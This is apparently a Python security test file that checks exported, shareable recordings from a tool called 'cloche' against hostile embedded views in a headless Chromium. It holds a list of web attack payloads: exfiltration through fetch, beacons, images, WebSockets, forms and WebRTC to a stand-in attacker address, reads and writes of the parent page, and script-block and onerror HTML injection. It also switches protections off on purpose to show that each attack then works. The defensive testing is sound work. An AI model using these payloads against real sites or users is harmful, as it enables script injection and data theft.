"""Attacks on whoever opens a shared recording: each succeeds against a file without the protection, and fails in ours.

A shared file has no host, no server and no headers around it, so these have a stage of their own beside the catalogue.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable, Iterable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import msgspec
import pytest
from playwright.async_api import Browser, ConsoleMessage, async_playwright
from playwright.async_api import Error as PlaywrightError

from cloche.testing import Cassette
from cloche.testing.cassettes import shared_page as shared_module
from cloche.testing.cassettes.lines import FORMAT, Answer, AnyLine, Ask, Header, PageLine, Start, View
from tests.attacks.canary import Canary
from tests.support.chromium import FLAGS
from tools.chromium import chromium

DEADLINE = 50.0
PATIENCE = 5000
"""Milliseconds in which a page that works shows its first view."""

SECRET = "what was said to somebody else"

Weaken = Callable[[pytest.MonkeyPatch], None]


@dataclass(frozen=True)
class FileAttack:
    """One attack: what a view does, or what a result holds, and the protection without which it succeeds."""

    name: str
    weaken: Weaken
    script: str = ""
    """What the view runs; `http` is the attacker's address, `win(proof)` says that it succeeded."""
    text: str = ""
    """What a tool answers."""
    title: str = "look"
    """What the tool is called."""
    leaves: bool = False
    """Whether the view's page ends with the attack, whatever comes of it, and says nothing more."""

    def __str__(self) -> str:
        return self.name


def without_policies(patch: pytest.MonkeyPatch) -> None:
    """The page and its views without a policy."""
    patch.setattr(shared_module, "WIDEST", "base-uri 'none'")
    patch.setattr(shared_module, "content_policy", lambda *_: "base-uri 'none'")
    _edited(patch, "share/room.html", "frame-src 'none'", "base-uri 'none'")


def without_sandbox(patch: pytest.MonkeyPatch) -> None:
    """Views of the page's own origin."""
    _edited(patch, "share/index.html", ' sandbox="allow-scripts allow-forms"', "")
    _edited(patch, "dist/shared-stage.js", "allow-scripts allow-forms", "allow-scripts allow-same-origin allow-forms")


def without_escapes(patch: pytest.MonkeyPatch) -> None:
    """The recording in its block as it is, and no second policy."""
    patch.setattr(shared_module, "_inert", lambda text: text)
    patch.setattr(shared_module, "escape", lambda text: text)
    patch.setattr(shared_module, "_strict", lambda *_: "base-uri 'none'")


def without_second_policy(patch: pytest.MonkeyPatch) -> None:
    """The page bound by nothing but the policy that views need."""
    patch.setattr(shared_module, "_strict", lambda *_: "base-uri 'none'")


def with_rtc(patch: pytest.MonkeyPatch) -> None:
    """Views that keep WebRTC."""
    _edited(patch, "dist/shared-view.js", '"RTCPeerConnection",', "")


def _edited(patch: pytest.MonkeyPatch, file: str, old: str, new: str) -> None:
    """A file of `cloche.web` with something else in it."""
    before_read, before_bundled = shared_module.read_web, shared_module.bundled

    def changed(name: str, text: str) -> str:
        if name != file:
            return text
        assert text.count(old) == 1, f"{file} has not exactly one {old!r}: change the control with the file"
        return text.replace(old, new)

    patch.setattr(shared_module, "read_web", lambda name: changed(name, before_read(name)))
    patch.setattr(shared_module, "bundled", lambda name, **values: changed(f"dist/{name}", before_bundled(name)))


FETCH = "fetch(http).catch(() => 0)"
ATTACKS = [
    FileAttack("fetch", without_policies, script=FETCH),
    FileAttack("image", without_policies, script="new Image().src = http"),
    FileAttack("beacon", without_policies, script="navigator.sendBeacon(http, 'x')"),
    FileAttack("websocket", without_policies, script="new WebSocket(http.replace('http', 'ws'))"),
    FileAttack("stylesheet", without_policies, script="document.head.innerHTML += `<style>@import '${http}'</style>`"),
    FileAttack("navigation", without_policies, script="location = http", leaves=True),
    FileAttack(
        "form",
        without_policies,
        script="document.body.innerHTML = `<form action='${http}'>`; document.forms[0].submit()",
        leaves=True,
    ),
    FileAttack("child frame", without_policies, script="document.body.innerHTML = `<iframe src='${http}'>`"),
    FileAttack(
        "worker",
        without_policies,
        script="new Worker(URL.createObjectURL(new Blob([`fetch('${http}')`])))",
    ),
    FileAttack(
        "webrtc",
        with_rtc,
        script="const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${udp}`}]}); "
        "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))",
    ),
    FileAttack(
        "read the page around it",
        without_sandbox,
        script=f"const all = top.document.documentElement.outerHTML; if (all.includes({SECRET!r})) win('it was read')",
    ),
    FileAttack(
        "write into the page around it",
        without_sandbox,
        script="top.document.title = 'written'; if (top.document.title === 'written') win('it was written')",
    ),
    FileAttack(
        "end the data block",
        without_escapes,
        text="</script><script>fetch('{http}', {{mode: 'no-cors'}}).catch(() => 0); new Image().src = '{http}'; "
        "document.title = 'broken out'</script>",
    ),
    FileAttack(
        "comment out the rest",
        without_escapes,
        text="<!-- <script>",
    ),
    FileAttack("a name that is markup", without_escapes, title="<img src=x onerror=\"document.title='broken out'\">"),
]


def html_of(attack: FileAttack, canary: Canary, folder: Path) -> Path:
    """The file with this attack in it."""
    setup = {"http": f"{canary.origin}/x", "udp": canary.udp_port}
    script = f"const {{http, udp}} = {json.dumps(setup)};" + WIN + f"try {{ {attack.script} }} catch {{}} tried();"
    page = PageLine(hash="x", html=f"<!doctype html><body><script>{script}</script>")
    text = attack.text.format(http=canary.origin) if attack.text else SECRET
    lines: list[AnyLine] = [
        Header(format=FORMAT, made="2026-11-18T12:00:00+00:00", cloche="1.0", servers=["evil"]),
        Ask(time=1.0, server="evil", exchange=1, method="tools/call", params={"name": "look"}),
        Answer(time=1.5, server="evil", exchange=1, result={"content": [{"type": "text", "text": text}]}),
        page,
        View(number=0, server="evil", tool=attack.title, uri="ui://evil/x", page="x"),
        Start(view=0, at=0, time=2000, width=400, height=300),
    ]
    folder.mkdir()
    path = folder / "evil.cassette"
    path.write_bytes(b"".join(msgspec.json.encode(line) + b"\n" for line in lines))
    file = path.with_suffix(".html")
    file.write_text(shared_module.shared_page(Cassette.read(path)), encoding="utf-8")
    return file


SAID = "attack: "
REFUSED = "Framing 'http://evil.localhost"
"""How the browser begins to tell that a frame may not go there."""

WIN = """
const win = (proof) => console.log(`attack: ${proof}`);
const tried = () => setTimeout(() => win(""), 2000);
"""


@asynccontextmanager
async def started() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium(), args=FLAGS)
        try:
            yield browser
        finally:
            await browser.close()


async def attempt(browser: Browser, attack: FileAttack, folder: Path) -> str:
    """What is seen of its success; empty when it fails."""
    over: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    def end(proof: str) -> None:
        if not over.done():
            over.set_result(proof)

    async with Canary() as canary:
        canary.on_song = end
        context = await browser.new_context()
        page = await context.new_page()

        def hear(said: ConsoleMessage) -> None:
            if said.text.startswith(SAID):
                end(said.text.removeprefix(SAID))
            elif attack.leaves and said.text.startswith(REFUSED):
                end("")

        page.on("console", hear)
        await page.goto(html_of(attack, canary, folder).as_uri())
        if not attack.script:
            # Our page shows the first view; one that something else has taken over never does.
            try:
                await page.locator("#stage:not([hidden])").wait_for(timeout=PATIENCE)
            except PlaywrightError:
                end("the page does not work any more")
            end("a script ran" if await page.title() == "broken out" else "")
        proof = await asyncio.wait_for(over, DEADLINE)
        await context.close()
    return proof


async def all_attempts(attacks: Iterable[FileAttack], folder: Path) -> dict[str, str]:
    """What came of each, at the same time."""
    async with started() as browser:
        told = [(one.name, attempt(browser, one, folder / str(number))) for number, one in enumerate(attacks)]
        proofs = await asyncio.gather(*(ending for _, ending in told))
    return dict(zip((name for name, _ in told), proofs, strict=True))


async def test_no_attack_succeeds_in_a_shared_file(tmp_path: Path) -> None:
    assert {name: proof for name, proof in (await all_attempts(ATTACKS, tmp_path)).items() if proof} == {}


@pytest.mark.parametrize("weaken", list(dict.fromkeys(one.weaken for one in ATTACKS)), ids=lambda one: one.__name__)
async def test_without_the_protection_each_of_them_does(
    weaken: Weaken, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    weaken(monkeypatch)
    proofs = await all_attempts([one for one in ATTACKS if one.weaken is weaken], tmp_path)
    assert [name for name, proof in proofs.items() if not proof] == []


async def test_a_script_in_the_page_itself_is_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Were there a hole in how the page shows a recording, the second policy is behind it."""
    attack = FileAttack("none", without_second_policy)
    run = "document.body.insertAdjacentHTML('beforeend', '<img src=\"x:\" onerror=\"document.title = 1\">')"
    async with started() as browser, Canary() as canary:
        titles = []
        for folder in ("ours", "weak"):
            if folder == "weak":
                attack.weaken(monkeypatch)
            page = await (await browser.new_context()).new_page()
            await page.goto(html_of(attack, canary, tmp_path / folder).as_uri())
            await page.locator("#stage:not([hidden])").wait_for()
            failed = page.evaluate(
                "() => new Promise((done) => { addEventListener('error', () => setTimeout(done, 200), true); "
                f"{run} }})"
            )
            await asyncio.wait_for(failed, DEADLINE)
            titles.append(await page.title())
        assert titles == ["look of evil", "1"]
